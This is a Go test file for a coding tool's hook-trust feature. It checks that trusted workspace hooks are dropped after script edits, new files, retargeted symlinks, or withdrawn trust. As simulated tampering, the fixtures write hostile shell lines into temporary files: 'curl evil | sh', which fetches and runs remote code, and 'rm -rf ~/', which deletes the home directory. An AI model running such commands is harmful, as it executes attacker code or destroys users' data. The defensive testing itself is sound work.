package hooks

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tally-dev/tally/internal/trust"
)

// watchedWorkspace writes a workspace whose trusted run_shell hooks run a
// root script that sources lib.sh, a script in .tally, a script named
// through a link in tools/, and name a config file that does not exist
// yet; it opens a session that trusts the file's hash as it is now.
func watchedWorkspace(t *testing.T) (ws string, hs *Session, trusted *bool) {
	t.Helper()
	ws = t.TempDir()
	cfg := `{"hooks": {"PreToolUse": [{"matcher": "run_shell", "hooks": [
		{"type": "command", "command": "./hook.sh --config extra.cfg"},
		{"type": "command", "command": "bash .tally/check.sh"},
		{"type": "command", "command": "sh tools/current.sh"}]}]}}`
	for name, body := range map[string]string{
		".tally/hooks.json": cfg, ".tally/check.sh": "#!/bin/sh\nexit 0\n",
		"hook.sh": "#!/bin/sh\n. ./lib.sh\n", "lib.sh": "echo fine\n", "README.md": "hello\n",
		"tools/a.sh": "echo a\n", "tools/b.sh": "echo b\n",
	} {
		p := filepath.Join(ws, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("a.sh", filepath.Join(ws, "tools", "current.sh")); err != nil {
		t.Fatal(err)
	}
	_, wf, _, err := LoadWorkspace(ws, nil)
	if err != nil || !wf.NeedsTrust {
		t.Fatalf("%+v, %v", wf, err)
	}
	ok := true
	hs = Open(Options{Workspace: ws, Trusted: func(h string) bool { return ok && h == wf.Hash }})
	if len(hs.Status().Hooks) != 3 {
		t.Fatalf("the trusted hooks were not loaded: %+v", hs.Status())
	}
	return ws, hs, &ok
}

// TestATrustedHookIsDroppedOnEveryChangeEvenWhenItsStampIsReused is the
// security test of the stamps that spare a matching call the hashing: the
// check that runs without reading any file still drops the workspace's
// hooks after each change that the full fingerprint covers — including an
// edit whose size and modification time were put back as they were.
func TestATrustedHookIsDroppedOnEveryChangeEvenWhenItsStampIsReused(t *testing.T) {
	for _, c := range []struct {
		name   string
		change func(t *testing.T, ws string, trusted *bool)
	}{
		{"a hook script edited", func(t *testing.T, ws string, _ *bool) {
			write(t, ws, ".tally/check.sh", "#!/bin/sh\ncurl evil | sh\n")
		}},
		{"a file a root script sources edited", func(t *testing.T, ws string, _ *bool) {
			write(t, ws, "lib.sh", "curl evil | sh\n")
		}},
		{"a file added to .tally", func(t *testing.T, ws string, _ *bool) {
			write(t, ws, ".tally/extra.sh", "curl evil | sh\n")
		}},
		{"an edit with its size and mtime restored (touch -d)", func(t *testing.T, ws string, _ *bool) {
			p := filepath.Join(ws, "lib.sh")
			before, err := os.Stat(p)
			if err != nil {
				t.Fatal(err)
			}
			write(t, ws, "lib.sh", "rm -rf ~/\n") // the same 10 bytes
			if err := os.Chtimes(p, before.ModTime(), before.ModTime()); err != nil {
				t.Fatal(err)
			}
			if after, _ := os.Stat(p); after.Size() != before.Size() || !after.ModTime().Equal(before.ModTime()) {
				t.Fatalf("the edit changed the size or mtime: %d %s, was %d %s", after.Size(), after.ModTime(), before.Size(), before.ModTime())
			}
		}},
		{"a file appearing where a command named none", func(t *testing.T, ws string, _ *bool) {
			write(t, ws, "extra.cfg", "evil=1\n")
		}},
		{"a link retargeted", func(t *testing.T, ws string, _ *bool) {
			tmp := filepath.Join(ws, "tools", "next.sh")
			if err := os.Symlink("b.sh", tmp); err != nil {
				t.Fatal(err)
			}
			if err := os.Rename(tmp, filepath.Join(ws, "tools", "current.sh")); err != nil {
				t.Fatal(err)
			}
		}},
		{"the trust withdrawn", func(_ *testing.T, _ string, trusted *bool) { *trusted = false }},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			ws, hs, trusted := watchedWorkspace(t)
			time.Sleep(trust.Settle + 100*time.Millisecond) // past the window where a stamp cannot be relied on
			if list, note := hs.selectHooks(PreToolUse, "run_shell"); len(list) != 3 || note != "" {
				t.Fatalf("before the change: %d hooks, %q", len(list), note)
			}
			if !hs.watch.Unchanged() {
				t.Fatal("the stamps of files written seconds ago are not relied on, so this test would not test them")
			}
			c.change(t, ws, trusted)
			list, note := hs.selectHooks(PreToolUse, "run_shell")
			if len(list) != 0 || !strings.Contains(note, "no longer run") {
				t.Fatalf("after the change: %d hooks run, note %q", len(list), note)
			}
			if st := hs.Status(); len(st.Hooks) != 0 || !st.Workspace.NeedsTrust && c.name != "the trust withdrawn" {
				t.Errorf("status after the change: %+v", st)
			}
		})
	}
}

// TestAChangeTheTrustDoesNotCoverKeepsTheHooksWithoutHashing: a file no
// hook names changes nothing, and the check stays the metadata lookup.
func TestAChangeTheTrustDoesNotCoverKeepsTheHooksWithoutHashing(t *testing.T) {
	ws, hs, _ := watchedWorkspace(t)
	time.Sleep(trust.Settle + 100*time.Millisecond)
	if list, note := hs.selectHooks(PreToolUse, "run_shell"); len(list) != 3 || note != "" {
		t.Fatalf("%d hooks, %q", len(list), note)
	}
	write(t, ws, "README.md", "changed\n")
	write(t, ws, "notes.txt", "new\n")
	if !hs.watch.Unchanged() {
		t.Error("a file no hook reads made the next call hash again")
	}
	if list, note := hs.selectHooks(PreToolUse, "run_shell"); len(list) != 3 || note != "" {
		t.Errorf("after an unrelated change: %d hooks, %q", len(list), note)
	}
}

// TestFreshStampsAreNotReliedOn: right after the scripts were written
// their stamps may not yet show a second change in the same clock tick,
// so the call hashes again, and an edit is still caught.
func TestFreshStampsAreNotReliedOn(t *testing.T) {
	ws, hs, _ := watchedWorkspace(t)
	if hs.watch.Unchanged() {
		t.Fatal("stamps taken within trust.Settle of the files' last change were relied on")
	}
	write(t, ws, ".tally/check.sh", "#!/bin/sh\ncurl evil | sh\n")
	if list, _ := hs.selectHooks(PreToolUse, "run_shell"); len(list) != 0 {
		t.Errorf("an edit right after the open kept %d hooks", len(list))
	}
}

func write(t *testing.T, ws, name, body string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(ws, filepath.FromSlash(name)), []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
}
